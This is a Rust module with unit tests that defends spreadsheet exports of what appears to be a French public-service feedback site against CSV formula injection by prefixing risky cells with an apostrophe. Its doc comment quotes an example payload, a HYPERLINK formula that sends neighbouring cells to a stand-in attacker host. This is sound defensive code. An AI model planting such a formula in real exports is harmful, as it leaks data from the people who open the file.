//! Text cells of files people open in spreadsheet software: the avis exports (`avis.csv`,
//! `avis.xlsx`) and the observatory's open data (`/observatoire.csv`). A cell that begins with
//! `=`, `+`, `-` or `@` (or a tab or carriage return, which some software skips before looking)
//! is taken for a formula once opened: `=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")`
//! in a démarche's name would become a live link that sends the neighbouring cells away (OWASP
//! « CSV injection »). One rule, in one place, for every such file.

/// `cell` as text a spreadsheet shows and never evaluates: prefixed with `'` (the usual escape,
/// shown by none of the common spreadsheets' formula bar as anything but text) when it begins
/// with a character that starts a formula; unchanged otherwise.
pub fn neutralise(cell: &str) -> String {
    if starts_formula(cell) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// Whether `cell` begins with a character that a spreadsheet may read as the start of a formula.
pub fn starts_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        for evil in ["=HYPERLINK(\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\r=1+1"] {
            assert!(starts_formula(evil), "{evil:?}");
            assert_eq!(neutralise(evil), format!("'{evil}"), "{evil:?}");
            assert!(!starts_formula(&neutralise(evil)));
        }
        for fine in ["Très bien", "", "'déjà", " =1", "1-2", "Caisse d'allocations familiales"] {
            assert_eq!(neutralise(fine), fine);
        }
    }
}
